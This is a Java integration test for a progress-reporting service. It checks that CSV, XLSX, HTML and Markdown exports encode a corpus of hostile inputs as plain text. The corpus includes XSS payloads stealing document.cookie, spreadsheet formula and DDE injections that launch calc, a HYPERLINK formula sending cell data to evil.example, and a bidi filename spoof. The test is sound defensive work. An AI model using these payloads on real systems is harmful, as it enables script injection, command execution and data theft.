package org.duban.progress.publication;

import static io.restassured.RestAssured.given;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.Set;
import java.util.UUID;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Workbook;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.awaitility.Awaitility;
import org.duban.progress.support.Api;
import org.duban.progress.support.Events;
import org.duban.progress.support.TestClock;
import org.duban.testing.Csv;
import org.junit.jupiter.api.Test;

/**
 * Output encoding (issue 12 item 5): a corpus of hostile texts (markup, event handlers, {@code javascript:} links,
 * Markdown links and images, pipes and line breaks, formula starters, a long RTL and zero-width string) and
 * ordinary Chinese text arrives through Kafka as what tasks-service sends (task titles, leaders, units, persons,
 * sections, imported 完成情况), and every export of the period (completion table and notice, as CSV, XLSX, HTML and
 * Markdown, live and as the frozen publication anyone may read) shows it as text: no markup but the document's own
 * in HTML and Markdown, no cell a spreadsheet would read as a formula, the ordinary text unchanged.
 */
@QuarkusTest
@TestClock("2018-04-11T09:00")
class ExportEncodingTest {

    /** Hostile texts; those in {@link #FORMULAS} start a formula. */
    private static final List<String> HOSTILE = List.of(
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<IMG SRC=x OnError=alert(document.cookie)>",
            "\"><script>alert('x')</script><p title=\"",
            "<svg/onload=alert(1)>",
            "<a href=\"javascript:alert(1)\" onmouseover=\"alert(2)\">点此查看</a>",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "[点此查看](javascript:alert(document.cookie))",
            "![图](https://evil.example/x.png \"onerror=alert(1)\")",
            "<javascript:alert(1)>",
            "已完成|未完成|\n| --- | --- |\n| 伪造 | 行 |",
            "第一行\n# 伪造标题\n- 伪造列表\n> 伪造引用\n1. 伪造编号\n    伪造代码\n```\n<script>alert(1)</script>\n```\n---",
            "`<img src=x onerror=alert(1)>` [链接]: javascript:alert(1)",
            "=CMD|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            "\t=1+1",
            "\r=1+1",
            "=HYPERLINK(\"http://evil.example/?q=\"&A1,\"点此\")",
            longUnicode());

    private static final Set<String> FORMULAS = Set.of(HOSTILE.get(13), HOSTILE.get(14), HOSTILE.get(15), HOSTILE.get(16),
            HOSTILE.get(17), HOSTILE.get(18), HOSTILE.get(19));

    /** Ordinary texts, which must come out exactly as they went in (a negative figure stays a figure). */
    private static final List<String> ORDINARY = List.of(
            "一季度完成投资12.5亿元,同比增长-3.2%(预计数),完成年度目标的25%。",
            "完成全国第四次经济普查清查摸底工作(2018-2019年度)。",
            "-12.5");

    private static final List<String> FORMATS = List.of("csv", "xlsx", "html", "md");
    private static final Pattern TAG = Pattern.compile("<(/?)([A-Za-z!][^\\s/>]*)([^>]*)>");
    private static final Set<String> HTML_TAGS = Set.of("!DOCTYPE", "html", "head", "meta", "title", "style", "body", "h1", "h2",
            "h3", "h4", "p", "table", "thead", "tbody", "tr", "th", "td", "br");
    private static final Set<String> HTML_ATTRIBUTES = Set.of("", " html", " lang=\"zh-CN\"", " charset=\"UTF-8\"",
            " class=\"footnote\"", " class=\"title-block\"", " class=\"section\"", " scope=\"col\"",
            " scope=\"colgroup\" colspan=\"9\"", " class=\"number\"", " class=\"addressee\"", " class=\"signature\"",
            " class=\"date\"");
    /** A line that opens a Markdown block: list item, quote, HTML, fence, rule, setext underline, indented code. */
    private static final Pattern MD_BLOCK_START = Pattern.compile(
            "^(?: {0,3}(?:[-+*](?:[ \\t]|$)|\\d{1,9}[.)](?:[ \\t]|$)|>|<|```|~~~|(?:[-*_=][ \\t]*)+$)| {4}|\\t)");
    private static final Pattern MD_HEADING = Pattern.compile("^ {0,3}#{1,6}(?:[ \\t]|$)");
    private static final Pattern ENTITY = Pattern.compile("&(?:amp|lt|gt|#9|#32);");

    /** 2,000 characters of right-to-left text, bidi overrides and zero-width characters. */
    private static String longUnicode() {
        StringBuilder sb = new StringBuilder("\u202Egpj.exe\u202C");
        while (sb.length() < 2000) {
            sb.append("مرحبا\u200Bשלום\u200C\u200D\u2066<b>\u2069\u200E\u200F\u061C\uFEFF\u2028");
        }
        return sb.toString();
    }

    /** A text for a column of at most 200 characters. */
    private static String shortened(String text) {
        return text.length() <= 180 ? text : text.substring(0, 180);
    }

    record Document(String name, String format, byte[] body) {
        String text() {
            return new String(body, StandardCharsets.UTF_8);
        }
    }

    @Test
    void shouldShowEveryTextAsTextInEveryExportFormat() {
        String s = UUID.randomUUID().toString().substring(0, 8);
        String plan = "enc-" + s;
        List<String> corpus = new ArrayList<>(HOSTILE);
        corpus.addAll(ORDINARY);
        Events.planPublished(plan, Map.of("▲", "<script>alert('legend')</script>", "●", "=1+1 省直考核"));
        for (int i = 0; i < corpus.size(); i++) {
            String text = corpus.get(i);
            String number = String.valueOf(i + 1);
            String task = plan + "-" + number;
            String lead = "L" + s + "-" + number;
            // every field tasks-service sends and an export prints carries the text; one unit that does not report
            // carries it into the notice's list of units that have not reported
            Events.assigned(new Events.Task(plan, task, number, text)
                    .lead(lead, shortened(text))
                    .responsible("O" + s + "-" + number, shortened(text))
                    .set("relatedUnits", List.of(Events.unit("R" + s + "-" + number, shortened(text))))
                    .set("leaders", List.of(shortened(text)))
                    .set("coordinator", shortened(text))
                    .set("leadPerson", shortened(text))
                    .set("sectionPath", List.of("二、重点工作", text)));
            Events.progressImported(plan, "imp-" + s, task, number, lead, shortened(text), "Q1", text);
        }
        Awaitility.await().atMost(Duration.ofSeconds(90)).pollInterval(Duration.ofMillis(500)).until(() -> {
            byte[] csv = given().auth().oauth2(Api.supervisor()).queryParam("period", "Q1").queryParam("format", "csv")
                    .when().get("/api/progress/plans/" + plan + "/completion-table").then().extract().asByteArray();
            List<List<String>> rows = Csv.parse(csv).stream().filter(r -> r.size() >= 8 && r.get(0).matches("\\d+")).toList();
            return rows.size() == corpus.size() && rows.stream().noneMatch(r -> r.get(r.size() - 1).isEmpty())
                    && new String(csv, StandardCharsets.UTF_8).contains("省直考核");
        });

        List<Document> documents = new ArrayList<>();
        Map<String, String> kinds = new LinkedHashMap<>();
        kinds.put("COMPLETION_TABLE", "completion-table");
        kinds.put("NOTICE", "notice");
        kinds.forEach((kind, path) -> {
            for (String format : FORMATS) {
                documents.add(new Document(path + " (live)", format, given().auth().oauth2(Api.supervisor())
                        .queryParam("period", "Q1").queryParam("format", format)
                        .when().get("/api/progress/plans/" + plan + "/" + path).then().statusCode(200).extract().asByteArray()));
            }
            String id = given().auth().oauth2(Api.supervisor()).contentType(ContentType.JSON)
                    .body(Map.of("planId", plan, "period", "Q1", "kind", kind))
                    .when().post("/api/progress/publications").then().statusCode(201).extract().path("id");
            for (String format : FORMATS) {
                // frozen publications are public: read with no credentials at all
                documents.add(new Document(path + " (published)", format, given().queryParam("format", format)
                        .when().get("/api/progress/publications/" + id + "/content").then().statusCode(200).extract().asByteArray()));
            }
        });

        List<String> raw = new ArrayList<>();
        for (Document d : documents) {
            String where = d.name() + " ." + d.format();
            switch (d.format()) {
                case "html" -> checkHtml(d.text(), where, raw);
                case "md" -> checkMarkdown(d.text(), d.name().startsWith("completion-table"), where, raw);
                default -> checkCells(cells(d), d.name().startsWith("completion-table"), where, raw);
            }
        }
        System.out.println("export encoding: " + corpus.size() + " payloads × " + documents.size() + " formats, " + raw.size() + " raw");
        assertEquals(List.of(), raw.stream().distinct().limit(40).toList(), raw.size() + " raw, the first 40 distinct listed");
    }

    /** Only the template's own elements and attributes; every other character of the corpus is text. */
    private static void checkHtml(String html, String where, List<String> raw) {
        String lower = html.toLowerCase(Locale.ROOT);
        for (String markup : List.of("<script", "<img", "<svg", "<a ", "<b>")) {
            if (lower.contains(markup)) {
                raw.add(where + ": raw " + markup);
            }
        }
        Matcher m = TAG.matcher(html);
        int tags = 0;
        while (m.find()) {
            tags++;
            if (!HTML_TAGS.contains(m.group(2)) || !HTML_ATTRIBUTES.contains(m.group(3))) {
                raw.add(where + ": element not of the template: " + m.group());
            }
        }
        if (tags != count(html, '<') || count(html, '>') != tags) {
            raw.add(where + ": a < or > outside the template's elements");
        }
        for (String text : ORDINARY) {
            if (!html.contains(text)) {
                raw.add(where + ": ordinary text changed: " + text);
            }
        }
    }

    private static void checkMarkdown(String md, boolean table, String where, List<String> raw) {
        String lower = md.toLowerCase(Locale.ROOT);
        for (String markup : List.of("<script", "<img", "<svg", "<a ", "<b>", "onerror=alert(1)>")) {
            if (lower.contains(markup)) {
                raw.add(where + ": raw " + markup);
            }
        }
        // no HTML but the cells' <br>, no entity but the escaper's, no code span, link, image or pipe of the text's
        String withoutBreaks = md.replace("<br>", "");
        if (withoutBreaks.indexOf('<') >= 0 || withoutBreaks.indexOf('>') >= 0) {
            raw.add(where + ": raw < or >");
        }
        Matcher amp = Pattern.compile("&").matcher(md);
        while (amp.find()) {
            if (!ENTITY.matcher(md).region(amp.start(), md.length()).lookingAt()) {
                raw.add(where + ": raw & at " + amp.start());
            }
        }
        List<String> lines = List.of(md.split("\n", -1));
        for (int i = 0; i < lines.size(); i++) {
            String line = lines.get(i);
            for (char c : new char[] {'`', '[', ']'}) {
                if (unescaped(line, c) > 0) {
                    raw.add(where + ": unescaped " + c + " in line " + (i + 1) + ": " + line);
                }
            }
            if (line.isBlank()) {
                continue;
            }
            boolean tableLine = table && line.startsWith("| ") && line.endsWith(" |");
            if (tableLine && unescaped(line, '|') != CompletionTable.COLUMNS.size() + 1) {
                raw.add(where + ": a table row of " + (unescaped(line, '|') - 1) + " cells: " + line);
            } else if (!tableLine && unescaped(line, '|') > 0) {
                raw.add(where + ": unescaped | in line " + (i + 1) + ": " + line);
            }
            if (MD_BLOCK_START.matcher(line).find()) {
                raw.add(where + ": line " + (i + 1) + " opens a block: " + line);
            }
            boolean heading = MD_HEADING.matcher(line).find();
            boolean blockStart = i == 0 || lines.get(i - 1).isBlank();
            if (heading && !(blockStart && i + 1 < lines.size() && lines.get(i + 1).isEmpty())) {
                raw.add(where + ": heading inside a text, line " + (i + 1) + ": " + line);
            }
        }
        if (table) {
            // the header, the delimiter row, one row per task and one per part of the plan (each task's own, but for
            // texts that repeat): a text that broke out of its cell would add rows beyond that or merge two
            long rows = lines.stream().filter(l -> l.startsWith("| ")).count();
            int tasks = HOSTILE.size() + ORDINARY.size();
            if (rows <= 2 + tasks || rows > 2 + 2 * tasks) {
                raw.add(where + ": " + rows + " table rows");
            }
        }
        for (String text : ORDINARY) {
            if (!md.contains(text)) {
                raw.add(where + ": ordinary text changed: " + text);
            }
        }
    }

    /** How many {@code c} in {@code line} are not backslash-escaped. */
    private static int unescaped(String line, char c) {
        int n = 0;
        for (int i = 0; i < line.length(); i++) {
            if (line.charAt(i) == '\\') {
                i++;
            } else if (line.charAt(i) == c) {
                n++;
            }
        }
        return n;
    }

    private static int count(String s, char c) {
        return (int) s.chars().filter(x -> x == c).count();
    }

    private static List<List<String>> cells(Document d) {
        if (d.format().equals("csv")) {
            return Csv.parse(d.body());
        }
        List<List<String>> rows = new ArrayList<>();
        try (Workbook wb = new XSSFWorkbook(new ByteArrayInputStream(d.body()))) {
            for (Row row : wb.getSheetAt(0)) {
                List<String> cells = new ArrayList<>();
                for (Cell cell : row) {
                    if (cell.getCellType() == CellType.FORMULA) {
                        cells.add("=" + cell.getCellFormula());
                    } else if (cell.getCellType() == CellType.STRING) {
                        cells.add(cell.getStringCellValue());
                    }
                }
                rows.add(cells);
            }
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return rows;
    }

    /**
     * No cell starts a formula unless it is a number; each formula of the corpus is there, quoted ('=CMD…), as the
     * completion table's 完成情况 and as a paragraph of the notice; the ordinary texts are there unchanged.
     */
    private static void checkCells(List<List<String>> rows, boolean table, String where, List<String> raw) {
        List<String> all = rows.stream().flatMap(List::stream).toList();
        for (String cell : all) {
            if (!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0 && !cell.matches("[+-]?\\d+(\\.\\d+)?%?")) {
                raw.add(where + ": cell starts a formula: " + cell.replace("\r", "\\r").replace("\t", "\\t"));
            }
        }
        List<String> progress = table ? rows.stream().filter(r -> r.size() == CompletionTable.COLUMNS.size() && r.get(0).matches("\\d+"))
                .map(r -> r.get(r.size() - 1)).toList() : all;
        // the notice names each task before what it says of it ("第3项 …:…"), so no paragraph of it is a bare formula
        for (String formula : table ? FORMULAS : List.<String>of()) {
            if (!progress.contains("'" + formula)) {
                raw.add(where + ": no cell '" + formula.replace("\r", "\\r").replace("\t", "\\t"));
            }
        }
        for (String text : ORDINARY) {
            if (!progress.contains(text) && (table || all.stream().noneMatch(c -> c.contains(text)))) {
                raw.add(where + ": ordinary text changed: " + text);
            }
        }
        assertTrue(all.size() > HOSTILE.size(), where + " has its cells");
    }
}
